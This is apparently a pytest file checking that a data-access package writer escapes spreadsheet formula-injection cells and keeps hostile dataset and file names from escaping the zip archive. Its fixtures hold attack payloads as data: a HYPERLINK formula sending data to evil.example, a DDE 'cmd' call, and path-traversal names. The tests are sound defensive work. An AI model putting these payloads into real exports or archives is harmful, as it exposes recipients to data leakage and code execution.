"""An access package built from hostile data: cells that would run as formulas in a
spreadsheet, and dataset and file names that would unpack outside the chosen folder."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path, PurePosixPath

from pledge.dsr.package import PackageWriter

ROWS = [
    {
        "id": -5,
        "balance": Decimal("-3.50"),
        "name": '=HYPERLINK("http://evil.example/?"&A2,"Click")',
        "note": "-2+3+cmd|' /C calc'!A0",
        "tag": "@SUM(1+1)",
        "tabbed": "\t=1+1",
        "phone": "+441632960123",
        "plain": "Ada",
    }
]


def safe(name: str) -> bool:
    parts = PurePosixPath(name).parts
    return not name.startswith("/") and "\\" not in name and ".." not in parts


def test_csv_cells_cannot_run_and_data_json_keeps_the_values(tmp_path: Path) -> None:
    with PackageWriter(tmp_path / "p.zip") as package:
        package.add("crm.customer", [ROWS])
        path = package.finish({"request": "1"}, lambda previews: "<html></html>")
    with zipfile.ZipFile(path) as archive:
        text = archive.read("crm.customer.csv").decode("utf-8")
        data = json.loads(archive.read("data.json"))
    header, row = list(csv.reader(io.StringIO(text)))
    written = dict(zip(header, row, strict=True))
    assert written == {
        "id": "-5",  # a number: left as it is
        "balance": "-3.50",  # a Decimal: a number too
        "name": '\'=HYPERLINK("http://evil.example/?"&A2,"Click")',
        "note": "'-2+3+cmd|' /C calc'!A0",
        "tag": "'@SUM(1+1)",
        "tabbed": "'\t=1+1",
        "phone": "+441632960123",  # a plain number as text cannot call anything
        "plain": "Ada",
    }
    # data.json is the person's data, not a spreadsheet: exactly as read.
    assert data["systems"]["crm"]["customer"][0]["name"] == ROWS[0]["name"]
    assert data["systems"]["crm"]["customer"][0]["note"] == ROWS[0]["note"]


def test_hostile_dataset_names_stay_inside_the_package(tmp_path: Path) -> None:
    hostile = ["../../evil.x", "/etc.passwd", "a\\..\\..\\b.c", "..\\win.bat", "C:.d"]
    with PackageWriter(tmp_path / "p.zip") as package:
        for dotted in hostile:
            package.add(dotted, [[{"v": 1}]])
        path = package.finish({"request": "1"}, lambda previews: "<html></html>")
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
    assert len(names) == len(hostile) + 2
    assert all(safe(name) and "/" not in name for name in names), names


def test_hostile_file_names_stay_inside_the_package(tmp_path: Path) -> None:
    root = tmp_path / "recordings"
    (root / "sub").mkdir(parents=True)
    # Legal file names on Linux that unpack elsewhere on Windows, and two that differ only
    # in a character the package has to replace.
    stored = ["..\\..\\evil.bat", "sub/a\\b.wav", "sub/a_b.wav", "c:evil.wav"]
    for name in stored:
        (root / name).write_bytes(name.encode())
    rows = [{"id": n, "file_path": name} for n, name in enumerate(stored)]
    files = {"crm.calls": {"file_path": root}}
    with PackageWriter(tmp_path / "p.zip", files=files) as package:
        package.add("crm.calls", [rows])
        path = package.finish({"request": "1"}, lambda previews: "<html></html>")
        members = {f.stored: f.member for f in package.files}
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        contents = {name: archive.read(name) for name in names}
    assert all(safe(name) for name in names), names
    assert ":" not in "".join(names)
    # Every file is in, under its own member, holding its own bytes.
    assert len(set(members.values())) == len(stored)
    for name in stored:
        member = members[name]
        assert member is not None and member.startswith("files/crm/calls/")
        assert contents[member] == name.encode()
